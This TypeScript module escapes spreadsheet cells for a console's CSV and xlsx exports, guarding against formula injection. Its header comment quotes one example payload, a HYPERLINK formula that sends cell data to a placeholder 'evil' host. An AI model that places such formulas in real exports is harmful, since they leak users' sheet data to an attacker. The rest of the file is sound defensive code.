/*
 * Spreadsheet formula injection (OWASP "CSV injection"). A text cell that starts with =, +, -, @,
 * TAB or CR is taken for a formula by Excel, LibreOffice and Google Sheets: a device's STRING
 * value or a rule name `=HYPERLINK("https://evil/?"&A1,"open")` leaks the sheet on a click, DDE
 * payloads run commands. Every CSV and xlsx the console writes passes its cells through this
 * file (history, alarm records, alarm rules and their import template; billing records next),
 * so one rule holds everywhere: such text gets a leading single quote, which spreadsheets show as
 * text, and a CSV field is quoted as well.
 */

/** Text a spreadsheet would evaluate, also behind quotes we added earlier (see undefuseText). */
const FORMULA_START = /^'*[=+\-@\t\r]/;
/**
 * A plain decimal number ("-5", "-1.5e3", "-9223372036854775808") is no formula: it stays as it
 * is, so 64-bit values exported as exact text and negative numbers read back unchanged.
 */
const NUMBER_LITERAL = /^-?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

/**
 * The text as a spreadsheet must receive it: a leading `'` when it starts like a formula (after
 * any quotes of its own, so that undefuseText can give back exactly the original).
 */
export function defuseText(text: string): string {
  return FORMULA_START.test(text) && !NUMBER_LITERAL.test(text) ? `'${text}` : text;
}

/**
 * The inverse of defuseText, for files we read back (the alarm rule import): exactly one quote
 * comes off text that defuseText would have quoted. Also reads a hand-typed `'=x` as `=x`, as a
 * spreadsheet shows it.
 */
export function undefuseText(text: string): string {
  return text.startsWith("'") && FORMULA_START.test(text) ? text.slice(1) : text;
}

/** One cell for exceljs: text defused; numbers, dates, booleans and empty cells unchanged. */
export function safeCell<T>(value: T): T {
  return (typeof value === 'string' ? defuseText(value) : value) as T;
}

/** Every cell of a row (an array, or an object keyed by column) through safeCell. */
export function safeRow<R extends readonly unknown[] | Readonly<Record<string, unknown>>>(row: R): R {
  if (Array.isArray(row)) return row.map(safeCell) as unknown as R;
  return Object.fromEntries(Object.entries(row).map(([key, value]) => [key, safeCell(value)])) as R;
}

const NEEDS_QUOTES = /[",;\t\r\n]/;

/**
 * One CSV field (RFC 4180). A number is written as it is. Text is defused, and quoted when it was
 * defused or holds a quote, comma, line break, tab or semicolon (Excel splits on `;` where that is
 * the list separator, which would start a new, unchecked cell).
 */
export function csvField(value: string | number | null | undefined): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return String(value);
  const safe = defuseText(value);
  return safe !== value || NEEDS_QUOTES.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}
